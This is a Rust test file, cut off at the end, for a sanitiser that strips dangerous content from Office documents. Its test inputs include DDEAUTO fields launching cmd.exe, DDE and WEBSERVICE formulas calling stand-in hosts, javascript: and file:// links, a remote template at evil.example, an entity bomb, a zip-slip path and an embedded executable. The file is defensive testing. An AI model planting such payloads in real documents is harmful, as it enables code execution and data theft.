//! Documents of Office through both rooms: what crosses, what does not, and what is told of it.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails where it fails"
)]

mod package_kit;
mod rooms;

use form::report::OutputType;
use form::{Limits, Reason};
use package_kit::{A, MC, P, PRESENTATION, Package, R, Rebuilt, W};
use rooms::{Sanitised, refusal, sanitise};

fn rebuilt(package: &Package, name: &str) -> (Sanitised, Rebuilt) {
    let done = sanitise(&package.zip(), name).unwrap_or_else(|refused| panic!("{:?}", refused.refusal));
    let parts = Rebuilt::open(&done.bytes);
    (done, parts)
}

/// What is left of the body of a document, from its first paragraph on.
fn body(content: &str) -> (Sanitised, String) {
    let (done, parts) = rebuilt(&Package::document(content), "a.docx");
    let text = parts.text("document.xml");
    let start = text.find("<w:body").expect("a body");
    (done, text[start..].to_owned())
}

fn sheet(content: &str) -> (Sanitised, String) {
    let (done, parts) = rebuilt(&Package::workbook(content), "a.xlsx");
    let text = parts.text("worksheets/");
    let start = text.find("<sheetData").expect("cells");
    (done, text[start..].to_owned())
}

#[test]
fn words_and_cells_cross() {
    let (done, text) = body("<w:p><w:r><w:t>申請書 &amp; 添付</w:t></w:r></w:p>");
    assert_eq!(done.report.output, OutputType::Docx);
    assert!(text.contains("申請書 &amp; 添付"), "{text}");
    let (done, cells) = sheet(r#"<sheetData><row r="1"><c r="A1"><f>SUM(B1:C1)</f><v>3</v></c></row></sheetData>"#);
    assert_eq!(done.report.output, OutputType::Xlsx);
    assert!(cells.contains("SUM(B1:C1)") && cells.contains(">3<"), "{cells}");
}

#[test]
fn a_macro_document_leaves_without_its_macros_and_says_so() {
    let package = Package::document("<w:p/>")
        .relation(
            "word/document.xml",
            "m",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
        )
        .bytes("word/vbaProject.bin", b"Attribut\0e VB_Name");
    let (done, parts) = rebuilt(&package, "a.docm");
    assert!(done.has(Reason::Macros));
    assert_eq!(done.report.output, OutputType::Docx);
    assert!(!parts.has("vbaProject") && !parts.has("VB_Name"), "{:?}", parts.names());
}

#[test]
fn document_types_and_entities_refuse_the_document() {
    let main = |xml: &str| Package::document("").part("word/document.xml", xml).zip();
    let bomb = format!(
        r#"<!DOCTYPE d [<!ENTITY a "aaaa">]><w:document {W}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>"#
    );
    assert_eq!(refusal(&main(&bomb), "a.docx"), Reason::Malformed);
    let named = format!("<w:document {W}><w:body><w:p><w:r><w:t>&nbsp;</w:t></w:r></w:p></w:body></w:document>");
    assert_eq!(refusal(&main(&named), "a.docx"), Reason::Malformed);
    assert_eq!(refusal(&main(&format!("<w:document {W}><w:body><w:p>")), "a.docx"), Reason::Malformed);
    assert_eq!(refusal(&main(&format!("<w:document {W}/><w:document {W}/>")), "a.docx"), Reason::Malformed);
}

#[test]
fn names_that_are_there_twice_or_lead_out_refuse_the_package() {
    let twice = Package::document("<w:p/>").part("WORD/Document.XML", "<a/>").zip();
    assert_eq!(refusal(&twice, "a.docx"), Reason::DuplicateMember);
    let absolute = Package::document("<w:p/>").part("/etc/passwd", "x").zip();
    assert_eq!(refusal(&absolute, "a.docx"), Reason::ZipSlip);
}

#[test]
fn a_part_whose_checksum_is_wrong_is_not_read() {
    let mut zip = Package::document("<w:p><w:r><w:t>checksum</w:t></w:r></w:p>").zip();
    let at = zip.windows(17).rposition(|window| window == b"word/document.xml").unwrap();
    // The checksum stands 30 bytes before the name in the central directory, and 16 before it in the local header.
    let local =
        zip.windows(17).enumerate().filter(|(_, w)| *w == b"word/document.xml").map(|(at, _)| at).nth_back(1).unwrap();
    zip[at - 30] ^= 1;
    zip[local - 16] ^= 1;
    assert_eq!(refusal(&zip, "a.docx"), Reason::Malformed);
}

#[test]
fn nesting_is_refused_at_its_limit_and_not_by_the_stack() {
    let nested = |depth: usize| {
        let (open, close) = ("<w:sdt><w:sdtContent>".repeat(depth), "</w:sdtContent></w:sdt>".repeat(depth));
        Package::document(&format!("{open}<w:p/>{close}")).zip()
    };
    assert!(sanitise(&nested(100), "a.docx").is_ok());
    assert_eq!(refusal(&nested(15_000), "a.docx"), Reason::LimitMarkup);
    let unknown =
        Package::document(&format!("{}{}", "<w:unknown>".repeat(15_000), "</w:unknown>".repeat(15_000))).zip();
    assert_eq!(refusal(&unknown, "a.docx"), Reason::LimitMarkup);
}

#[test]
fn what_stands_in_the_wrong_order_is_put_right() {
    let (done, text) = body(
        "<w:p><w:r><w:t>一</w:t><w:rPr><w:b/></w:rPr></w:r><w:pPr><w:ind w:left=\"1\"/><w:keepNext/></w:pPr><w:r><w:t>二</w:t></w:r></w:p>",
    );
    assert!(done.has(Reason::StructureRepaired));
    let order: Vec<usize> = ["<w:pPr", "<w:keepNext", "<w:ind", "<w:b/>", "一", "二"]
        .iter()
        .map(|word| text.find(word).expect(word))
        .collect();
    assert!(order.is_sorted(), "{text}");
}

#[test]
fn a_cell_of_a_table_without_a_paragraph_gets_one() {
    let (_, text) =
        body("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr/></w:tc></w:tr></w:tbl><w:p/>");
    assert!(text.contains("<w:tc>") && text.contains("<w:p/></w:tc>"), "{text}");
}

#[test]
fn tables_keep_their_rows_whatever_their_makers_left_out() {
    let row = |word: &str| format!("<w:tr><w:tc><w:p><w:r><w:t>{word}</w:t></w:r></w:p></w:tc></w:tr>");
    let (properties, grid) =
        ("<w:tblPr><w:jc w:val=\"center\"/></w:tblPr>", "<w:tblGrid><w:gridCol w:w=\"500\"/></w:tblGrid>");
    for start in ["", properties, grid] {
        let (done, text) = body(&format!("<w:tbl>{start}{}{}</w:tbl><w:p/>", row("甲"), row("乙")));
        let order = ["<w:tblPr", "<w:tblGrid", "甲", "乙", "</w:tbl>"].map(|word| text.find(word).expect(word));
        assert!(order.is_sorted() && text.matches("<w:tr>").count() == 2, "{start}: {text}");
        assert!(done.has(Reason::StructureRepaired) && !done.has(Reason::UnknownContent), "{start}");
    }
    // One of which only the beginning is at hand when its rows are written.
    let many: String = (0..9_000).map(|number| row(&format!("第{number}行"))).collect();
    let (_, text) = body(&format!("<w:tbl>{many}</w:tbl><w:p/>"));
    assert_eq!(text.matches("<w:tr>").count(), 9_000);
    assert!(text.find("第8998行").unwrap() < text.find("第8999行").unwrap());
}

#[test]
fn a_chart_of_lines_that_does_not_say_how_they_are_grouped_keeps_them() {
    let chart = r#"<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart><c:plotArea><c:lineChart><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>Sheet1!$B$2:$B$10</c:f></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:lineChart><c:catAx><c:axId val="1"/><c:crosses val="autoZero"/><c:crossAx val="2"/><c:axPos val="b"/><c:delete val="0"/><c:scaling/></c:catAx><c:valAx><c:axId val="2"/><c:scaling/><c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart></c:chartSpace>"#;
    let drawing = r#"<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:graphicFrame><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="c"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></xdr:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="c1"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>"#;
    let package = Package::workbook(r#"<sheetData/><drawing r:id="d1"/>"#)
        .relation("xl/worksheets/sheet1.xml", "d1", "drawing", "../drawings/drawing1.xml")
        .part("xl/drawings/drawing1.xml", drawing)
        .relation("xl/drawings/drawing1.xml", "c1", "chart", "../charts/chart1.xml")
        .part("xl/charts/chart1.xml", chart);
    let (_, parts) = rebuilt(&package, "a.xlsx");
    let text = parts.text("charts/chart");
    let words =
        ["<c:lineChart>", "<c:grouping/>", "<c:ser>", "$B$2", "<c:catAx>", "<c:scaling/>", "<c:delete", "<c:axPos"];
    let order = words.map(|word| text.find(word).unwrap_or_else(|| panic!("{word} in {text}")));
    assert!(order.is_sorted(), "{text}");
}

/// PowerPoint 2010 and later: ECMA-376 part 1, section 22.1, with the letters of drawings (section 21.1.2.3.9).
#[test]
fn equations_on_slides_cross() {
    let letters = r#"<a:rPr lang="en-US" i="1"><a:latin typeface="Cambria Math"/></a:rPr>"#;
    let equation = format!(
        r#"<m:oMathPara><m:oMathParaPr><m:jc m:val="centerGroup"/></m:oMathParaPr><m:oMath><m:rad><m:radPr><m:degHide m:val="on"/><m:ctrlPr>{letters}</m:ctrlPr></m:radPr><m:deg/><m:e><m:r>{letters}<m:t>𝑥+1</m:t></m:r></m:e></m:rad></m:oMath></m:oMathPara>"#
    );
    let shape = |content: &str| {
        format!(
            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="e"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p>{content}</a:p></p:txBody></p:sp>"#
        )
    };
    let math = "http://schemas.openxmlformats.org/officeDocument/2006/math";
    let drawn = "http://schemas.microsoft.com/office/drawing/2010/main";
    let (done, text) = slide(
        &format!(
            r#"<mc:AlternateContent xmlns:a14="{drawn}"><mc:Choice Requires="a14">{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"#,
            shape(&format!(r#"<a14:m xmlns:m="{math}">{equation}</a14:m>"#)),
            shape("<a:r><a:t>picture</a:t></a:r>")
        ),
        |package| package,
    );
    assert!(!done.has(Reason::UnknownContent) && !done.has(Reason::StructureRepaired));
    let start = text.find("<m:oMathPara>").expect("an equation");
    let end = text.find("</a14:m>").expect("its end");
    assert_eq!(text.get(start..end), Some(equation.as_str()));
    let plain = shape(&format!(
        r#"<a14:m xmlns:a14="{drawn}" xmlns:m="{math}"><m:oMath><m:r><m:t>y</m:t></m:r></m:oMath></a14:m>"#
    ));
    assert!(slide(&plain, |package| package).1.contains("<m:t>y</m:t>"));
}

#[test]
fn elements_of_no_vocabulary_are_left_out_with_all_in_them() {
    let (done, text) = body("<w:p><w:evil><w:r><w:t>in</w:t></w:r></w:evil><w:r><w:t>out</w:t></w:r></w:p>");
    assert!(!text.contains("evil") && !text.contains(">in<") && text.contains(">out<"), "{text}");
    assert_eq!(done.place(Reason::UnknownContent).as_deref(), Some("w:evil"));
}

#[test]
fn smart_tags_leave_their_words() {
    let (_, text) =
        body(r#"<w:p><w:smartTag w:element="place"><w:smartTagPr/><w:r><w:t>京都</w:t></w:r></w:smartTag></w:p>"#);
    assert!(text.contains("京都") && !text.contains("smartTag"), "{text}");
}

#[test]
fn of_alternatives_the_first_known_one_crosses() {
    let wps = r#"xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:no="urn:no""#;
    let alternatives = |requires: &str, choice: &str| {
        body(&format!(
            r#"<w:p {wps}><w:r><mc:AlternateContent><mc:Choice Requires="{requires}">{choice}</mc:Choice><mc:Fallback><w:t>old</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>"#
        ))
        .1
    };
    let known = alternatives("wps", "<w:t>new</w:t>");
    assert!(known.contains(">new<") && !known.contains(">old<"), "{known}");
    let unknown = alternatives("wps no", "<w:t>new</w:t>");
    assert!(unknown.contains(">old<") && !unknown.contains(">new<"), "{unknown}");
    let empty = alternatives("wps", "<w:control/>");
    assert!(empty.contains(">old<"), "a choice of which nothing crosses is none: {empty}");
}

#[test]
fn a_refused_formula_leaves_its_value_and_takes_those_that_share_it() {
    let (done, cells) = sheet(
        r#"<sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:B1" si="0">WEBSERVICE("http://x")</f><v>7</v></c><c r="B1"><f t="shared" si="0"/><v>8</v></c><c r="C1"><f>A1+B1</f><v>15</v></c></row></sheetData>"#,
    );
    assert!(!cells.contains("WEBSERVICE") && !cells.contains("shared"), "{cells}");
    assert!(cells.contains(">7<") && cells.contains(">8<") && cells.contains("A1+B1"), "{cells}");
    assert_eq!(done.place(Reason::UnsafeFormula).as_deref(), Some("表!A1"));
}

#[test]
fn a_rule_whose_formula_is_refused_goes_whole() {
    let (done, cells) = sheet(
        r#"<sheetData/><dataValidations count="2"><dataValidation type="list" sqref="A1"><formula1>cmd|'/c calc'!A1</formula1></dataValidation><dataValidation type="list" sqref="B1"><formula1>"a,b"</formula1></dataValidation></dataValidations>"#,
    );
    assert!(!cells.contains("calc") && !cells.contains(r#"sqref="A1""#), "{cells}");
    assert!(cells.contains(r#"sqref="B1""#), "{cells}");
    assert!(done.has(Reason::UnsafeFormula));
}

#[test]
fn a_field_that_starts_a_program_leaves_the_text_that_it_shows() {
    let field = |instruction: &str| {
        format!(
            r#"<w:p><w:r><w:t>前</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>{instruction}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#
        )
    };
    let split = "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"</w:instrText></w:r>";
    let (done, text) = body(&field(split));
    assert!(!text.contains("fldChar") && !text.contains("instrText") && !text.contains("calc"), "{text}");
    assert!(text.contains("前") && text.contains("結果"), "{text}");
    assert!(done.has(Reason::DdeLink));
    let (done, text) = body(&field("<w:r><w:instrText> PAGE </w:instrText></w:r>"));
    assert_eq!(text.matches("fldChar ").count(), 3, "{text}");
    assert!(!done.has(Reason::UnsafeField));
    let nested = field(&format!(
        "<w:r><w:instrText> INCLUDETEXT </w:instrText></w:r>{}",
        field("<w:r><w:instrText> PAGE </w:instrText></w:r>").replace("<w:p>", "").replace("</w:p>", "")
    ));
    let (done, text) = body(&nested);
    assert!(!text.contains("fldChar"), "a field in a refused one's instruction goes with it: {text}");
    assert_eq!(text.matches("結果").count(), 1, "{text}");
    assert!(done.has(Reason::UnsafeField));
}

/// Word reads text boxes apart, and what is tracked as inserted or deleted goes away with a click: each of these would be `PAGE`
/// here and `DDEAUTO` there.
#[test]
fn an_instruction_that_reaches_into_what_is_read_apart_is_no_instruction() {
    let mark = |kind: &str| format!(r#"<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>"#);
    let command = r#"DDEAUTO c:\\windows\\cmd.exe "/k calc""#;
    let page = "<w:r><w:instrText>PAGE </w:instrText></w:r>";
    let program = format!("<w:r><w:instrText>{command}</w:instrText></w:r>");
    let boxed = |content: &str| {
        format!(
            r#"<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p>{content}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"#
        )
    };
    let tracked = |name: &str, content: &str| {
        format!(r#"<w:{name} w:id="1" w:author="a" w:date="2026-01-01T00:00:00Z">{content}</w:{name}>"#)
    };
    let choice = format!(
        r#"<mc:AlternateContent {MC}><mc:Choice xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" Requires="w14">{page}</mc:Choice></mc:AlternateContent>"#
    );
    let shown = format!("<w:r><w:t>{}</w:t></w:r>", command.replace('"', "&quot;"));
    for instruction in [
        format!("{}{shown}", boxed(&format!("{page}{}", mark("separate")))),
        format!("{}{shown}", boxed(&format!("{page}{}", mark("end")))),
        format!("{choice}{program}"),
        format!("{}{program}", tracked("ins", page)),
        format!("{}{program}", tracked("del", &page.replace("instrText", "delInstrText"))),
    ] {
        let (_, text) = body(&format!("<w:p>{}{instruction}{}{}</w:p>", mark("begin"), mark("separate"), mark("end")));
        let begins = text.matches(r#"fldCharType="begin""#).count();
        assert!(begins == 0 && !text.contains("nstrText"), "{instruction}: {text}");
    }
}

/// The clean room adds words that are shown in an instruction to it, and a place for each field within.
#[test]
fn both_rooms_read_the_same_instruction() {
    let mark = |kind: &str| format!(r#"<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>"#);
    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
    let code = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let within = format!("{begin}{}{separate}<w:r><w:t>x</w:t></w:r>{end}", code(" REF a "));
    for (instruction, stays) in [
        (format!("{}{within}{}", code(" IF "), code(" = 1 ")), true),
        (format!("{}{within}{}", code(" HYPERLINK \"http://a.example/"), code("\"")), false),
        (format!("{within}{}", code(" PAGE ")), false),
        (format!("{}<w:r><w:t>abc</w:t></w:r>", code("PAGE")), false),
        (format!("{}<w:fldSimple w:instr=\" REF a \"><w:r><w:t>b</w:t></w:r></w:fldSimple>", code(" PAGE ")), true),
    ] {
        let (_, text) = body(&format!("<w:p>{begin}{instruction}{separate}<w:r><w:t>結果</w:t></w:r>{end}</w:p>"));
        assert!(text.contains("結果"), "{text}");
        assert_eq!(text.contains(r#"fldCharType="begin""#), stays, "{instruction}: {text}");
    }
}

/// Templates ask so for what is to be filled in: the words are in the instruction alone.
#[test]
fn the_words_of_a_button_for_a_macro_stay() {
    let run = |content: &str| format!("<w:r>{content}</w:r>");
    let field = |pieces: &[&str]| {
        let pieces: String = pieces
            .iter()
            .map(|piece| run(&format!(r#"<w:instrText xml:space="preserve">{piece}</w:instrText>"#)))
            .collect();
        run(r#"<w:fldChar w:fldCharType="begin"/>"#) + &pieces + &run(r#"<w:fldChar w:fldCharType="end"/>"#)
    };
    let text = |pieces: &[&str]| body(&format!("<w:p>{}</w:p>", field(pieces)));
    for pieces in [&[" MACROBUTTON Evil [氏名を入力] "][..], &[" macrobutton ", "Evil [氏名", "を入力]"]] {
        let (done, text) = text(pieces);
        assert_eq!(text.matches("<w:t>[氏名を入力]</w:t>").count(), 1, "{text}");
        assert!(!text.contains("Evil") && !text.contains("instrText") && !text.contains("fldChar"), "{text}");
        assert!(done.has(Reason::UnsafeField));
    }
    for pieces in [&[" MACROBUTTON Evil "][..], &[" DDE a b c "], &["MACROBUTTON"]] {
        let (_, text) = text(pieces);
        assert!(!text.contains("<w:t>"), "{text}");
    }
}

#[test]
fn a_field_without_an_end_takes_no_words_with_it() {
    let (_, text) = body(
        r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> FOO </w:instrText></w:r></w:p><w:p><w:r><w:t>本文</w:t></w:r></w:p>"#,
    );
    assert!(text.contains("本文") && !text.contains("FOO"), "{text}");
}

/// A colour scale computes its bounds without a click.
#[test]
fn a_condition_has_no_bound_that_reaches_outside() {
    let scale = |value: &str| {
        let (done, parts) = rebuilt(
            &Package::workbook(&format!(
                r#"<sheetData/><conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="{value}"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>"#
            )),
            "a.xlsx",
        );
        (done, parts.text("worksheets/"))
    };
    let (done, text) = scale("$B$1+1");
    assert!(text.contains("$B$1+1") && !done.has(Reason::UnsafeFormula), "{text}");
    for value in ["cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://e.example/&quot;&amp;A1)", "[1]S!A1"] {
        let (done, text) = scale(value);
        assert!(!text.contains("cfvo") && done.has(Reason::UnsafeFormula), "{value}: {text}");
    }
}

#[test]
fn a_link_inside_a_workbook_stays_in_it() {
    let link = |location: &str| {
        let (done, parts) = rebuilt(
            &Package::workbook(&format!(
                r#"<sheetData/><hyperlinks><hyperlink ref="A1" location="{location}"/></hyperlinks>"#
            )),
            "a.xlsx",
        );
        (done, parts.text("worksheets/"))
    };
    for location in ["Sheet1!A1", "'表 1'!$B$2", "合計"] {
        assert!(link(location).1.contains("location="), "{location}");
    }
    for location in [r"'\\evil\share\[b.xlsx]S'!A1", "file://evil/x#a", "[b.xlsx]S!A1"] {
        let (done, text) = link(location);
        assert!(!text.contains("<hyperlink ") && done.has(Reason::UnsafeLink), "{location}: {text}");
    }
}

#[test]
fn marks_of_fields_that_never_began_are_left_out() {
    let (_, text) = body(
        r#"<w:p><w:r><w:fldChar w:fldCharType="end"/><w:instrText>PAGE</w:instrText><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>"#,
    );
    assert!(!text.contains("instrText") && text.contains(">x<"), "{text}");
}

#[test]
fn a_name_of_nothing_is_left_out() {
    let names = r#"<definedName name="_xlnm.Print_Area" localSheetId="0"/>"#;
    for kept in ["", r#"<definedName name="合計">'表'!$A$1</definedName>"#] {
        let package = Package::workbook("<sheetData/>");
        let book = package.part_text("xl/workbook.xml");
        let book = book.replace("</sheets>", &format!("</sheets><definedNames>{names}{kept}</definedNames>"));
        let (done, parts) = rebuilt(&package.part("xl/workbook.xml", &book), "a.xlsx");
        let text = parts.text("workbook.xml");
        assert!(!text.contains("Print_Area"), "{text}");
        assert_eq!(text.contains("<definedName "), !kept.is_empty(), "{text}");
        assert!(done.has(Reason::StructureRepaired) && !done.has(Reason::UnknownContent));
    }
}

#[test]
fn links_lead_to_the_web_and_to_mail_only() {
    let link = |target: &str| {
        let package =
            Package::document(r#"<w:p><w:hyperlink r:id="h"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>"#)
                .external("word/document.xml", "h", "hyperlink", target);
        rebuilt(&package, "a.docx")
    };
    let (done, parts) = link("https://www.example.jp/?a=1&b=2");
    assert!(parts.text("document.xml").contains("<w:hyperlink") && !done.has(Reason::UnsafeLink));
    for target in
        ["javascript:alert(1)", "file:///C:/a.exe", "\\\\server\\share\\a.lnk", "ms-word:ofe|u|http://x/a.dotm"]
    {
        let (done, parts) = link(target);
        let text = parts.text("document.xml");
        assert!(!text.contains("<w:hyperlink") && text.contains("こちら"), "{target}: {text}");
        assert!(done.has(Reason::UnsafeLink), "{target}");
    }
}

#[test]
fn a_shape_of_a_sheet_leads_to_places_in_the_same_workbook() {
    let shape = |number: u32| {
        format!(
            r#"<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="{number}" name="b"><a:hlinkClick r:id="h{number}"/></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor>"#
        )
    };
    let names = format!(r#"xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" {A} {R}"#);
    let shapes: String = (2..6).map(shape).collect();
    let drawing = "xl/drawings/drawing1.xml";
    let package = Package::workbook(r#"<sheetData/><drawing r:id="d1"/>"#)
        .relation("xl/worksheets/sheet1.xml", "d1", "drawing", "../drawings/drawing1.xml")
        .part(drawing, &format!("<xdr:wsDr {names}>{shapes}</xdr:wsDr>"))
        .relation(drawing, "h2", "hyperlink", "#'表'!A1:B2")
        .relation(drawing, "h3", "hyperlink", "#'[b.xlsx]S'!A1")
        .relation(drawing, "h4", "hyperlink", "#'\\\\host\\share\\[b.xls]S'!A1")
        .external(drawing, "h5", "hyperlink", "#R&amp;D");
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let rels = parts.0.iter().find(|(name, _)| name.contains("drawing1.xml.rels")).expect("relationships").1.clone();
    let rels = String::from_utf8(rels).unwrap();
    assert!(
        rels.contains(r##"Target="#'表'!A1:B2"/>"##) || rels.contains(r##"Target="#&apos;表&apos;!A1:B2"/>"##),
        "{rels}"
    );
    assert!(!rels.contains("host") && !rels.contains("b.xlsx") && !rels.contains("External"), "{rels}");
    assert_eq!(parts.text("drawings/drawing").matches("<a:hlinkClick").count(), rels.matches("Target=").count());
    assert!(count(&done, Reason::UnsafeLink) >= 2);
}

#[test]
fn what_acts_without_a_click_leads_nowhere_outside() {
    for (name, is_kept) in [("hlinkClick", true), ("hlinkHover", false)] {
        let shape = format!(
            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="s"><a:{name} r:id="h"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"#
        );
        let (done, text) = slide(&shape, |package| {
            package.external("ppt/slides/slide1.xml", "h", "hyperlink", "https://www.example.jp/")
        });
        assert_eq!(text.contains(name), is_kept, "{text}");
        assert_eq!(done.has(Reason::UnsafeLink), !is_kept, "{name}");
    }
}

#[test]
fn a_template_elsewhere_is_told_with_a_target_that_is_no_link() {
    let settings =
        format!(r#"<w:settings {W} {R}><w:attachedTemplate r:id="t"/><w:defaultTabStop w:val="720"/></w:settings>"#);
    let package = Package::document("<w:p/>")
        .relation("word/document.xml", "s", "settings", "settings.xml")
        .part("word/settings.xml", &settings)
        .external("word/settings.xml", "t", "attachedTemplate", "http://evil.example/a.dotm");
    let (done, parts) = rebuilt(&package, "a.docx");
    assert_eq!(done.place(Reason::ExternalLink).as_deref(), Some("hxxp[:]//evil[.]example/a.dotm"));
    assert!(!parts.has("evil") && !parts.has("attachedTemplate"));
    assert!(parts.text("settings.xml").contains("defaultTabStop"));
}

#[test]
fn a_password_against_editing_goes_and_the_protection_stays() {
    let (done, cells) = sheet(
        r#"<sheetData/><sheetProtection algorithmName="SHA-512" hashValue="AAAA" saltValue="BBBB" spinCount="100000" sheet="1" objects="1"/>"#,
    );
    assert!(cells.contains("<sheetProtection") && cells.contains(r#"sheet="1""#), "{cells}");
    assert!(!cells.contains("AAAA") && !cells.contains("hashValue"), "{cells}");
    assert!(done.has(Reason::ProtectionPassword));
}

#[test]
fn a_macro_sheet_goes_and_names_keep_their_sheets() {
    let book = format!(
        r#"<workbook {X} {R}><bookViews><workbookView activeTab="2"/></bookViews><sheets><sheet name="M" sheetId="1" r:id="m"/><sheet name="B" sheetId="2" r:id="b"/><sheet name="C" sheetId="3" state="hidden" r:id="c"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" localSheetId="0">M!$A$1</definedName><definedName name="_xlnm.Print_Area" localSheetId="2">'C'!$A$1:$B$2</definedName></definedNames></workbook>"#,
        X = package_kit::X
    );
    let sheet = format!("<worksheet {}><sheetData/></worksheet>", package_kit::X);
    let package = Package::workbook("")
        .part("xl/workbook.xml", &book)
        .relation(
            "xl/workbook.xml",
            "m",
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
            "macrosheets/sheet1.xml",
        )
        .relation("xl/workbook.xml", "b", "worksheet", "worksheets/sheet1.xml")
        .relation("xl/workbook.xml", "c", "worksheet", "worksheets/sheet2.xml")
        .part("xl/macrosheets/sheet1.xml", "<a/>")
        .part("xl/worksheets/sheet1.xml", &sheet)
        .part("xl/worksheets/sheet2.xml", &sheet);
    let (done, parts) = rebuilt(&package, "a.xlsm");
    let book = parts.text("workbook.xml");
    assert!(!book.contains(r#"name="M""#) && !book.contains("Auto_Open") && !book.contains("activeTab"), "{book}");
    assert!(book.contains(r#"localSheetId="1""#) && book.contains("Print_Area"), "{book}");
    assert!(done.has(Reason::Macros));
    assert_eq!(done.place(Reason::HiddenSheet).as_deref(), Some("C"));
}

#[test]
fn of_an_embedded_object_the_preview_stays() {
    let vml = r#"xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office""#;
    let object = format!(
        r##"<w:p><w:r><w:object {vml} w:dxaOrig="1" w:dyaOrig="1"><v:shape id="s" style="width:100pt;height:50pt"><v:imagedata r:id="i" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s" DrawAspect="Icon" ObjectID="_1" r:id="o"/></w:object></w:r></w:p>"##
    );
    let package = Package::document(&object)
        .relation("word/document.xml", "o", "oleObject", "embeddings/請求書.exe.bin")
        .relation("word/document.xml", "i", "image", "media/image1.png")
        .bytes("word/embeddings/請求書.exe.bin", b"MZ-embedded")
        .bytes("word/media/image1.png", &png());
    let (done, parts) = rebuilt(&package, "a.docx");
    let text = parts.text("document.xml");
    assert!(text.contains("<v:imagedata") && !text.contains("OLEObject") && !text.contains("<w:object"), "{text}");
    assert!(!parts.has("MZ-embedded"));
    assert_eq!(done.place(Reason::EmbeddedObject).as_deref(), Some("請求書.exe.bin"));
}

#[test]
fn of_an_embedded_object_on_a_slide_the_picture_takes_its_place() {
    let picture = r#"<p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed="i"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="1" y="2"/><a:ext cx="3" cy="4"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>"#;
    let graphic = format!(
